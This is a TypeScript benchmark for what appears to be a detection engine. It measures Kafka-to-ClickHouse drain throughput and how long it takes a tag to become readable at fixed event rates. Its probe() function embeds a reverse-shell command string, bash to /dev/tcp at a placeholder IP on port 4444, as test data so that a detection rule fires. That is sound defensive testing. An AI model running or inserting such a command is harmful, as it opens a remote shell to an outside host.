/**
 * Kafka → a tag that a view answers, everything on this machine: broker, ClickHouse, engine.
 *
 * Drain: a preloaded topic of real Windows events, from the first finished block to the last.
 * Paced: events at a fixed rate, some of which match; from the produce call's return to the moment
 * the tag is in a view. The baseline of the same run is parsing alone, on the same events.
 */

import { execFileSync, spawn } from 'node:child_process'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout } from 'node:timers/promises'
import { parseArgs } from 'node:util'
import type { ClickHouseClient } from '@clickhouse/client'
import { Kafka, logLevel, type Producer } from 'kafkajs'
import { createClickHouse } from '../cli/clickhouse.ts'
import { type DevStack, startDevStack } from '../cli/dev-stack.ts'
import { nodeOptions as productOptions } from '../cli/node-options.ts'
import { names } from '../core/config.ts'
import { childrenOf, cpuSeconds, peakRssMb } from '../test/process-figures.ts'
import type { Benchmark } from './benchmark.ts'
import { machine } from './machine.ts'
import { eventLines } from './pipeline-events.ts'

const say = (text: string) => process.stdout.write(`${text}\n`)
const sendBytesMax = 700_000

export const pipeline: Benchmark = {
  name: 'pipeline',
  summary: 'Kafka to a readable tag: draining, and latency at a fixed pace.',
  async run(args) {
    const { values } = parseArgs({
      args: [...args],
      options: {
        records: { type: 'string', default: '200000' },
        rules: { type: 'string', default: '' },
        pace: { type: 'string', default: '1000,10000' },
        seconds: { type: 'string', default: '20' },
        engines: { type: 'string', default: '1' },
        'node-options': { type: 'string', default: productOptions.join(' ') },
      },
    })
    // As it is shipped: compiled, without a loader beside it.
    execFileSync(process.execPath, ['scripts/build.mjs'], { stdio: 'inherit' })
    say(machine())
    const lines = eventLines(Number(values.records))
    const bytes = lines.reduce((sum, line) => sum + Buffer.byteLength(line), 0)
    const parse = parseAlone(lines)
    say(
      `${lines.length} events of ${Math.round(bytes / lines.length)} bytes; JSON.parse alone ${parse.toFixed(1)} µs an event`,
    )
    const settings = values.rules === '' ? {} : { TTPSTREAM_RULES: values.rules }
    const nodeOptions = values['node-options'].split(' ').filter((option) => option !== '')
    await withStack(async (stack) =>
      drain(stack, lines, settings, nodeOptions, Number(values.engines)),
    )
    for (const pace of values.pace.split(',').filter((text) => text !== '')) {
      await withStack(async (stack) =>
        paced(stack, lines, Number(pace), Number(values.seconds), settings, nodeOptions),
      )
    }
    return 0
  },
}

async function withStack(run: (stack: DevStack) => Promise<void>): Promise<void> {
  const dataDir = mkdtempSync(join(tmpdir(), 'ttpstream-bench-'))
  const stack = await startDevStack({ dataDir, hasUsualPorts: false })
  try {
    await run(stack)
  } finally {
    await stack.close()
    rmSync(dataDir, { recursive: true, force: true })
  }
}

async function drain(
  stack: DevStack,
  lines: readonly string[],
  settings: Readonly<Record<string, string>>,
  nodeOptions: readonly string[],
  count: number,
): Promise<void> {
  const producer = await connect(stack)
  for (const portion of portions(lines)) await send(producer, portion)
  await producer.disconnect()
  const clickhouse = createClickHouse(stack.config)
  const engines = Array.from({ length: count }, () => startEngine(stack, settings, nodeOptions))
  const pids = engines.flatMap(({ pid }) => pid ?? [])
  const servers = childrenOf(process.pid).filter((pid) => !pids.includes(pid))
  const mark = async (records: number) => {
    const state = await until(clickhouse, records)
    return { ...state, engine: cpuOf(pids), servers: cpuOf(servers) }
  }
  const first = await mark(1)
  const half = await mark(lines.length / 2)
  const last = await mark(lines.length)
  const stretch = (from: typeof first, to: typeof first) => {
    const records = to.records - from.records
    const rate = Math.round(records / ((to.atMs - from.atMs) / 1000))
    const cost = (cpu: number) => `${((cpu * 1e6) / records).toFixed(1)} µs`
    return `${rate} events/s; CPU an event: engine ${cost(to.engine - from.engine)}, broker and ClickHouse ${cost(to.servers - from.servers)}`
  }
  say(`drain, all of it: ${stretch(first, last)}`)
  say(`drain, the second half: ${stretch(half, last)}`)
  say(
    `${last.blocks} blocks, ${last.tags} tags; peak memory ${pids.map((pid) => Math.round(peakRssMb(pid))).join(', ')} MB`,
  )
  for (const engine of engines) await stop(engine)
  await clickhouse.close()
}

async function paced(
  stack: DevStack,
  lines: readonly string[],
  perSecond: number,
  seconds: number,
  settings: Readonly<Record<string, string>>,
  nodeOptions: readonly string[],
): Promise<void> {
  const engine = startEngine(stack, settings, nodeOptions)
  const clickhouse = createClickHouse(stack.config)
  const producer = await connect(stack)
  await send(producer, [probe('warm-up')])
  await untilTagged(clickhouse, 'warm-up')
  const tickMs = 20
  const perTick = Math.max(1, Math.round((perSecond * tickMs) / 1000))
  const latencies: number[] = []
  const probes = new Set<Promise<void>>()
  const begun = performance.now()
  let sent = 0
  for (let tick = 0; performance.now() - begun < seconds * 1000; tick += 1) {
    const id = `probe-${tick}`
    const portion = lines.slice(
      sent % (lines.length - perTick),
      (sent % (lines.length - perTick)) + perTick,
    )
    const isProbe = tick % 10 === 0
    await send(producer, isProbe ? [...portion, probe(id)] : portion)
    sent += perTick
    if (isProbe) {
      const sentAtMs = performance.now()
      const task = untilTagged(clickhouse, id).then((atMs) => {
        latencies.push(atMs - sentAtMs)
        probes.delete(task)
      })
      probes.add(task)
    }
    const aheadMs = (tick + 1) * tickMs - (performance.now() - begun)
    if (aheadMs > 0) await setTimeout(aheadMs)
  }
  const achieved = Math.round(sent / ((performance.now() - begun) / 1000))
  await Promise.all(probes)
  const sorted = latencies.toSorted((a, b) => a - b)
  const quantile = (share: number) =>
    Math.round(sorted[Math.floor((sorted.length - 1) * share)] ?? 0)
  say(
    `paced at ${perSecond} events/s (sent ${achieved}/s): tag readable after p50 ${quantile(0.5)} ms, ` +
      `p95 ${quantile(0.95)} ms, p99 ${quantile(0.99)} ms over ${sorted.length} probes`,
  )
  await producer.disconnect()
  await stop(engine)
  await clickhouse.close()
}

/** A record that a shipped rule tags, told apart by its session. */
function probe(id: string): string {
  const command_text = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'
  return JSON.stringify({ kind: 'command', host: 'bench', session_id: id, command_text })
}

async function untilTagged(clickhouse: ClickHouseClient, session: string): Promise<number> {
  for (let tries = 0; tries < 6_000; tries += 1) {
    const answer = await clickhouse.query({
      query: 'SELECT * FROM session_seen(session_id = {id:String})',
      query_params: { id: session },
      format: 'JSONEachRow',
    })
    const [row] = await answer.json<Record<string, unknown>>()
    if (row !== undefined && Object.values(row).some((value) => value === true || value === 1)) {
      return performance.now()
    }
    await setTimeout(10)
  }
  throw new Error(`the tag of ${session} never came`)
}

async function connect(stack: DevStack): Promise<Producer> {
  const producer = new Kafka({ brokers: [stack.kafka], logLevel: logLevel.NOTHING }).producer()
  await producer.connect()
  return producer
}

let turn = 0
async function send(producer: Producer, values: readonly string[]): Promise<void> {
  turn += 1
  const messages = values.map((value) => ({ value, partition: turn % 2 }))
  await producer.send({ topic: 'ttp.commands', acks: 1, messages })
}

function* portions(lines: readonly string[]): Generator<readonly string[]> {
  let portion: string[] = []
  let bytes = 0
  for (const line of lines) {
    if (portion.length > 0 && bytes + line.length > sendBytesMax) {
      yield portion
      portion = []
      bytes = 0
    }
    portion.push(line)
    bytes += line.length + 64
  }
  if (portion.length > 0) yield portion
}

interface State {
  readonly records: number
  readonly blocks: number
  readonly tags: number
  readonly atMs: number
}

async function until(clickhouse: ClickHouseClient, records: number): Promise<State> {
  for (let tries = 0; tries < 12_000; tries += 1) {
    const answer = await clickhouse.query({
      query: `SELECT sum(records) AS records, count() AS blocks, sum(tags) AS tags
              FROM ingest_progress WHERE topic = 'ttp.commands'`,
      format: 'JSONEachRow',
      clickhouse_settings: { output_format_json_quote_64bit_integers: 0 },
    })
    const [row] = await answer.json<Omit<State, 'atMs'>>()
    if (row !== undefined && row.records >= records) return { ...row, atMs: performance.now() }
    await setTimeout(25)
  }
  throw new Error(`${records} records were not finished in time`)
}

function startEngine(
  { config }: DevStack,
  settings: Readonly<Record<string, string>>,
  nodeOptions: readonly string[],
) {
  const main = new URL('../dist/cli/main.js', import.meta.url).pathname
  const environment = Object.fromEntries(names().map((name) => [name, config.text(name)]))
  const engine = spawn(process.execPath, [...nodeOptions, main, 'run'], {
    stdio: ['ignore', 'ignore', 'inherit'],
    env: {
      ...process.env,
      ...environment,
      ...settings,
      TTPSTREAM_API_PORT: '0',
      TTPSTREAM_LOG_LEVEL: 'error',
    },
  })
  engine.once('exit', (code) => {
    if (code !== 0) throw new Error(`the engine ended with ${code}`)
  })
  return engine
}

async function stop(engine: ReturnType<typeof startEngine>): Promise<void> {
  const exited = new Promise((resolve) => engine.once('exit', resolve))
  engine.kill('SIGTERM')
  await exited
}

function cpuOf(pids: readonly number[]): number {
  return pids.reduce((sum, pid) => sum + cpuSeconds(pid), 0)
}

function parseAlone(lines: readonly string[]): number {
  const buffers = lines.slice(0, 50_000).map((line) => Buffer.from(line))
  for (const buffer of buffers.slice(0, 5_000)) JSON.parse(buffer.toString('utf8'))
  const before = process.cpuUsage()
  for (const buffer of buffers) JSON.parse(buffer.toString('utf8'))
  const { user, system } = process.cpuUsage(before)
  return (user + system) / buffers.length
}
